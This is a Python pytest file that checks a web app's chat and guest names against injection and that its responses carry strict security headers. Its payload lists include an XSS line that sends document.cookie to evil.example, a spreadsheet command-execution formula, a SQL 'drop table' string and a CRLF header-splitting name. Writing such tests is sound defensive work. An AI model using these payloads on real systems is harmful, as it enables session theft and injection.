"""Script in names and chat stays text; every answer tells the browser what it is."""

import json
from pathlib import Path

import pytest

from tests.security.host import Host, endpoints, hosting
from tests.security.test_roles import BODIES, filled
from tests.security.wire import Answer

pytestmark = pytest.mark.anyio

NAMES = [
    "<script>a()</script>",
    "<img src=x onerror=a()>",
    "'\"><svg onload=a()>",
    "{{7*7}}${7*7}",
    "</title>--><b>",
    "';drop table users;--",
]
LINES = [
    "<script>fetch('//evil.example?'+document.cookie)</script>",
    '<a href="javascript:alert(1)">free canoes</a>',
    "]]></script><script>alert(1)</script>",
    "\\u003cscript\\u003e",
    "%3Cscript%3E &lt;script&gt; &#60;",
    "=cmd|' /C calc'!A0",
]
WANTED = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
}


def guarded(answer: Answer, where: object) -> None:
    """The headers that keep a browser from running what it is given."""
    policy = answer.headers.get("content-security-policy", "")
    if where == ("GET", "/web/{path:path}"):
        assert answer.headers["x-content-type-options"] == "nosniff", where
        return  # part of a page: it is never a page itself
    if policy == "default-src 'none'; style-src 'unsafe-inline'":
        # A picture may have styles of its own, and nothing else: no script, and nothing to load.
        assert answer.headers["content-type"] == "image/svg+xml", where
    else:
        assert "default-src 'self'" in policy, where
        assert "unsafe" not in policy, where
    for name, value in WANTED.items():
        assert answer.headers.get(name) == value, (where, name)


async def test_payloads_come_back_as_json_letter_by_letter(host: Host) -> None:
    people = [await host.guest(name) for name in NAMES]
    code = await host.table(*people, listed=True)
    socket = await people[0].socket(code)
    for person, line in zip(people, LINES, strict=True):
        talking = await person.socket(code)
        talking.say("chat", id="x", text=line)
        await talking.until("done")
    heard = [await socket.until("said") for _ in LINES]
    assert [(each["name"], each["text"]) for each in heard] == [*zip(NAMES, LINES, strict=True)]
    for path in (f"/api/tables/{code}", f"/api/tables/{code}/chat", "/api/tables", "/api/me"):
        answer = await people[0].http.ask("GET", path)
        assert answer.headers["content-type"] == "application/json", path
        guarded(answer, path)
    said = (await people[0].http.ask("GET", f"/api/tables/{code}/chat")).json()
    assert [line["text"] for line in said] == LINES
    seats = (await people[0].http.ask("GET", f"/api/tables/{code}")).json()["seats"]
    assert [seat["name"] for seat in seats] == NAMES


async def test_a_name_can_split_no_header_and_no_line(host: Host) -> None:
    for name in ("a\r\nSet-Cookie: x=1", "a\nb", "a\x00b", "\u202eevil", "\u2028"):
        answer = await host.stranger.ask("POST", "/api/me", {"name": name})
        if answer.status == 200:  # white space of any kind is one space
            assert answer.json()["name"] == " ".join(name.split())
        else:
            assert answer.status == 422, name
        assert "x" not in answer.headers.get("set-cookie", "").partition("=")[0]


async def test_every_route_is_guarded_when_it_answers_and_when_it_refuses(
    tmp_path: Path,
) -> None:
    async with hosting(tmp_path, rate_limits=True) as host:
        for method, path in endpoints(host.app.routes):
            if method == "WEBSOCKET":
                continue
            where = filled(path, "ABCDEF", "0" * 32)
            answer = await host.stranger.ask(method, where, BODIES.get((method, path)))
            guarded(answer, (method, path))
            if answer.status >= 400:
                assert answer.headers["content-type"] == "application/json", (method, path)
                assert {"code", "message"} <= answer.json().keys()
        for method, path, body in (
            ("GET", "/<script>alert(1)</script>", b""),
            ("PROPFIND", "/api/me", b""),
            ("POST", "/api/me", b"<script>"),
            ("POST", "/api/me", b'{"name":"' + b"a" * 9000 + b'"}'),
            ("POST", "/api/me", b"[" * 8000),
            ("POST", "/api/me", b"\xff\xfe"),
            ("POST", "/api/me", b'{"name": NaN}'),
            ("DELETE", "/api/boards", b""),
        ):
            answer = await host.stranger.ask(method, path, raw=body)
            assert 400 <= answer.status < 500, (method, path, answer)
            guarded(answer, (method, path))
            assert answer.headers["content-type"] == "application/json"
            assert "<script>" not in json.dumps(answer.json())
        refused = 0
        host.app.state.limits.address.burst = 300.0
        for _ in range(500):
            answer = await host.stranger.ask("GET", "/api/bots")
            if answer.status == 429:
                refused += 1
                guarded(answer, "429")
        assert refused
